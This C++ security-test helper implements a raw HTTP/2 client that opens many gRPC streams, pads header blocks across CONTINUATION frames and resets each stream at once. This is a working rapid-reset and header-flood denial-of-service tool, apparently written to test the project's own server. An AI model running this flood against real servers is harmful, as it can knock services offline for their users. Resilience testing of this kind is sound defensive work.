#include "tests/security/raw_h2.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"

namespace mediagen::testing {
namespace {

constexpr uint8_t kHeaders = 0x1, kRstStream = 0x3, kSettings = 0x4,
                  kPing = 0x6, kGoaway = 0x7, kContinuation = 0x9;
constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;
constexpr uint32_t kCancel = 0x8;
// The default SETTINGS_MAX_FRAME_SIZE: larger header blocks continue in
// CONTINUATION frames.
constexpr size_t kMaxFrame = 16384;

// HPACK integer with an n-bit prefix (RFC 7541 5.1), prefix bits zero.
void AppendInt(std::string& out, uint64_t v, int prefix_bits) {
  const uint64_t max = (1u << prefix_bits) - 1;
  if (v < max) {
    out.push_back(static_cast<char>(v));
    return;
  }
  out.push_back(static_cast<char>(max));
  v -= max;
  while (v >= 128) {
    out.push_back(static_cast<char>((v % 128) + 128));
    v /= 128;
  }
  out.push_back(static_cast<char>(v));
}

std::string Be32(uint32_t v) {
  std::string s(4, '\0');
  s[0] = static_cast<char>(v >> 24);
  s[1] = static_cast<char>(v >> 16);
  s[2] = static_cast<char>(v >> 8);
  s[3] = static_cast<char>(v);
  return s;
}

}  // namespace

std::string RawH2Connection::Frame(uint8_t type, uint8_t flags,
                                   uint32_t stream_id,
                                   const std::string& payload) {
  std::string f;
  f.reserve(9 + payload.size());
  const uint32_t len = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>(len >> 16));
  f.push_back(static_cast<char>(len >> 8));
  f.push_back(static_cast<char>(len));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  f += Be32(stream_id & 0x7fffffff);
  f += payload;
  return f;
}

std::string RawH2Connection::EncodeHeaderBlock(
    const std::vector<std::pair<std::string, std::string>>& headers) {
  std::string out;
  for (const auto& [name, value] : headers) {
    out.push_back('\0');  // literal without indexing, new name
    AppendInt(out, name.size(), 7);
    out += name;
    AppendInt(out, value.size(), 7);
    out += value;
  }
  return out;
}

absl::StatusOr<std::unique_ptr<RawH2Connection>> RawH2Connection::Connect(
    const std::string& host, int port) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return absl::InternalError(absl::StrCat("socket: ", errno));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  if (inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1 ||
      connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    close(fd);
    return absl::UnavailableError(absl::StrCat("connect ", host, ":", port));
  }
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
  std::unique_ptr<RawH2Connection> c(new RawH2Connection(fd));
  absl::Status s = c->WriteAll(std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") +
                               Frame(kSettings, 0, 0, ""));
  if (!s.ok()) return s;
  return c;
}

RawH2Connection::~RawH2Connection() { close(fd_); }

absl::Status RawH2Connection::WriteAll(const std::string& bytes) {
  size_t off = 0;
  while (off < bytes.size()) {
    const ssize_t n =
        send(fd_, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
    if (n > 0) {
      off += static_cast<size_t>(n);
      continue;
    }
    if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
      counts_.closed = true;
      return absl::UnavailableError(absl::StrCat("send: ", strerror(errno)));
    }
    // The server is not reading: read what it sent meanwhile (it may be
    // waiting for us to read before it reads again), then wait to write.
    Pump(0);
    pollfd p{fd_, POLLOUT, 0};
    poll(&p, 1, 100);
  }
  return absl::OkStatus();
}

void RawH2Connection::Pump(int timeout_ms) {
  pollfd p{fd_, POLLIN, 0};
  if (poll(&p, 1, timeout_ms) <= 0) return;
  char buf[65536];
  while (true) {
    const ssize_t n = recv(fd_, buf, sizeof buf, 0);
    if (n == 0) {
      counts_.closed = true;
      break;
    }
    if (n < 0) {
      if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
        counts_.closed = true;
      }
      break;
    }
    counts_.bytes_read += n;
    in_.append(buf, static_cast<size_t>(n));
  }
  std::string replies;
  size_t pos = 0;
  while (in_.size() - pos >= 9) {
    const auto* h = reinterpret_cast<const unsigned char*>(in_.data() + pos);
    const size_t len = (size_t{h[0]} << 16) | (size_t{h[1]} << 8) | h[2];
    if (in_.size() - pos < 9 + len) break;
    const uint8_t type = h[3], flags = h[4];
    switch (type) {
      case kSettings:
        if (!(flags & kAck)) {
          ++counts_.settings;
          replies += Frame(kSettings, kAck, 0, "");
        }
        break;
      case kPing:
        if (!(flags & kAck)) {
          replies += Frame(kPing, kAck, 0, in_.substr(pos + 9, len));
        }
        break;
      case kRstStream:
        ++counts_.rst_stream;
        break;
      case kGoaway:
        ++counts_.goaway;
        break;
      case kHeaders:
        ++counts_.headers;
        break;
      default:
        break;
    }
    pos += 9 + len;
  }
  in_.erase(0, pos);
  if (!replies.empty() && !counts_.closed) {
    // Small: sent without waiting (a full socket drops it, which only
    // makes the server's settings timer fire: fine for an attack tool).
    (void)send(fd_, replies.data(), replies.size(), MSG_NOSIGNAL);
  }
}

absl::StatusOr<int64_t> RawH2Connection::OpenAndReset(
    int streams, const std::string& path,
    const std::vector<std::pair<std::string, std::string>>& metadata) {
  std::vector<std::pair<std::string, std::string>> headers = {
      {":method", "POST"},
      {":scheme", "http"},
      {":path", path},
      {":authority", "mediagen"},
      {"content-type", "application/grpc"},
      {"te", "trailers"},
  };
  headers.insert(headers.end(), metadata.begin(), metadata.end());
  const std::string block = EncodeHeaderBlock(headers);
  int64_t written = 0;
  std::string batch;
  for (int i = 0; i < streams; ++i) {
    const uint32_t id = next_stream_id_;
    next_stream_id_ += 2;
    // The header block, split into HEADERS + CONTINUATION frames.
    for (size_t off = 0; off == 0 || off < block.size(); off += kMaxFrame) {
      const std::string part = block.substr(off, kMaxFrame);
      const bool last = off + kMaxFrame >= block.size();
      batch += Frame(off == 0 ? kHeaders : kContinuation,
                     last ? kEndHeaders : 0, id, part);
    }
    batch += Frame(kRstStream, 0, id, Be32(kCancel));
    if (batch.size() >= 64 * 1024 || i + 1 == streams) {
      absl::Status s = WriteAll(batch);
      written += static_cast<int64_t>(batch.size());
      batch.clear();
      if (!s.ok()) return s;
      Pump(0);
      if (counts_.closed) {
        return absl::UnavailableError(absl::StrCat(
            "server closed the connection after ", i + 1, " streams"));
      }
    }
  }
  return written;
}

RawH2Connection::Counts RawH2Connection::Drain(absl::Duration d) {
  const absl::Time end = absl::Now() + d;
  while (!counts_.closed && absl::Now() < end) {
    Pump(static_cast<int>(
        std::max<int64_t>(1, absl::ToInt64Milliseconds(end - absl::Now()))));
  }
  return counts_;
}

}  // namespace mediagen::testing
